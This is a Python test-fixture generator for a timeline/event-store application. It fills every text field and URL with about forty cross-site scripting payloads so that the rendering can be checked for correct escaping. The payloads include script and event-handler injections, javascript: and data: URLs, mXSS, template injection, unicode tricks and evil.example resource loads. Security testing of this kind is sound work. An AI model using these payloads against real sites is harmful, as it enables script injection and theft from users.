"""Regenerate this scenario: python tests/roots/hostile-xss/make.py (writes events.yaml and sources/payloads.txt).

Every payload goes into every text field of the store: titles, summaries, notes, quotes, actors, places,
tags, lane labels, era titles, source titles/publishers/authors/notes, store title/description, dispute
descriptions, claim values and notes. URLs (which the schema limits to http(s) without quotes, spaces or
angle brackets) carry the URL-shaped payloads. A payload that runs sets window.__pwned or calls alert();
one that loads something requests https://evil.example/.
"""
from __future__ import annotations

import hashlib
from pathlib import Path

import yaml

HERE = Path(__file__).parent

PAYLOADS = [
    '<script>window.__pwned="script";alert(1)</script>',
    '</script><script>window.__pwned="close-script"</script>',
    '<!--<script>window.__pwned="comment"</script>-->',
    "<!-- unterminated comment",
    "\" onmouseover=\"window.__pwned='dq-attr'\" x=\"",
    "' onfocus='window.__pwned=\"sq-attr\"' autofocus='",
    "\"><img src=x onerror=\"window.__pwned='img'\">",
    "<img src=https://evil.example/pixel.gif>",
    "<svg onload=\"window.__pwned='svg'\"><script>window.__pwned='svg-script'</script></svg>",
    "<svg><a xlink:href=\"javascript:window.__pwned='svg-link'\"><text y=20>svg link</text></a></svg>",
    "<iframe src=\"javascript:window.__pwned='iframe'\"></iframe>",
    "<a href=\"javascript:window.__pwned='link'\">click me</a>",
    "javascript:window.__pwned='bare-js'",
    "JaVaScRiPt:alert(document.domain)",
    "data:text/html,<script>window.__pwned='data'</script>",
    "vbscript:msgbox(\"pwned\")",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__pwned='mxss'\">",
    "{{constructor.constructor('window.__pwned=\"template\"')()}}",
    "${window.__pwned='template-literal'}",
    "%{customdata} %{text} <b>bold</b> <a href=\"https://evil.example/plotly\">plotly link</a>",
    "<style>body{background:url(\"https://evil.example/css\")}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/refresh\">",
    "<form action=https://evil.example/form><button>go</button></form>",
    "<object data=\"javascript:window.__pwned='object'\"></object><embed src=\"https://evil.example/embed\">",
    "<details open ontoggle=\"window.__pwned='toggle'\">details</details>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned='noscript'>\"></noscript>",
    "]]><![CDATA[<script>window.__pwned='cdata'</script>]]>",
    "\"};window.__pwned='json-break';//",
    "</textarea></title></style><script>window.__pwned='close-tags'</script>",
    "&lt;script&gt;window.__pwned='pre-escaped'&lt;/script&gt; &amp;amp;",
    "%3Cscript%3Ewindow.__pwned='urlencoded'%3C/script%3E",
    "line\u2028separator\u2029paragraph window.__pwned='u2028'",
    "\u202egnp.exe RTL override \u202c",
    "java\u200bscript:window.__pwned='zero-width'",
    "\u02b2avascript:window.__pwned='homoglyph'",
    "\\u003cscript\\u003ewindow.__pwned='escaped-json'\\u003c/script\\u003e",
    "<scr<script>ipt>window.__pwned='nested'</scr</script>ipt>",
    "<input autofocus onfocus=\"window.__pwned='autofocus'\">",
]

URLS = [
    "https://example.org/a?b=1&c=javascript:alert(1)#%3C/script%3E",
    "https://example.org/%22%3E%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
    "https://example.org/javascript:window.__pwned=1",
    "HTTPS://EXAMPLE.ORG/upper",
    "https://evil.example/only-if-clicked",
    "https://example.org/`${window.__pwned=1}`",
    "https://example.org/\u202eRTL",
    "https://example.org/)};window.__pwned=1;//",
]


def build() -> tuple[str, str]:
    text = "".join(f"Payload {i}: {p}\n" for i, p in enumerate(PAYLOADS))
    offsets, pos = [], 0
    for i, p in enumerate(PAYLOADS):
        offsets.append(pos + len(f"Payload {i}: "))
        pos += len(f"Payload {i}: {p}\n")
    digest = hashlib.sha256(text.encode("utf-8")).hexdigest()
    cite = lambda i, src: {"source": src, "quote": PAYLOADS[i], "offset": offsets[i]}  # noqa: E731
    n = len(PAYLOADS)
    store = {
        "title": "XSS corpus " + PAYLOADS[0] + " " + PAYLOADS[4],
        "description": " | ".join(PAYLOADS),
        "sources": [
            {"id": f"src-{i}", "file": "sources/payloads.txt", "title": p, "publisher": p, "author": p,
             "url": URLS[i % len(URLS)], "published": "2020", "published_basis": "inferred", "published_note": p, "sha256": digest}
            for i, p in enumerate(PAYLOADS)
        ],
        "lanes": [{"id": f"lane-{i}", "label": p, "description": p} for i, p in enumerate(PAYLOADS)],
        "eras": [{"id": f"era-{i}", "title": PAYLOADS[i], "date": f"{1960 + i}/{1961 + i}", "description": PAYLOADS[i], "citations": [cite(i, f"src-{i}")]}
                 for i in range(0, n, 5)],
        "events": [
            {"id": f"xss-{i}", "date": f"{1960 + i}-0{1 + i % 9}", "title": p[:200], "summary": p, "note": p,
             "lane": f"lane-{i}", "tags": [p, "tag"], "actors": [p], "places": [p], "importance": 1 + i % 5, "status": "reviewed",
             "citations": [cite(i, f"src-{i}"), cite((i + 1) % n, f"src-{(i + 1) % n}")],
             "disputes": [{"about": "fact", "description": p, "claims": [
                 {"value": p, "note": p, "citations": [cite(i, f"src-{i}")]},
                 {"value": PAYLOADS[(i + 3) % n], "citations": [cite((i + 3) % n, f"src-{(i + 3) % n}")]}]}]}
            for i, p in enumerate(PAYLOADS)
        ],
    }
    header = "# Generated by make.py (python tests/roots/hostile-xss/make.py); every string is a payload.\n"
    return header + yaml.safe_dump(store, sort_keys=False, allow_unicode=True, width=10_000), text


if __name__ == "__main__":
    events, text = build()
    (HERE / "sources").mkdir(exist_ok=True)
    (HERE / "sources" / "payloads.txt").write_text(text, encoding="utf-8", newline="\n")
    (HERE / "events.yaml").write_text(events, encoding="utf-8", newline="\n")
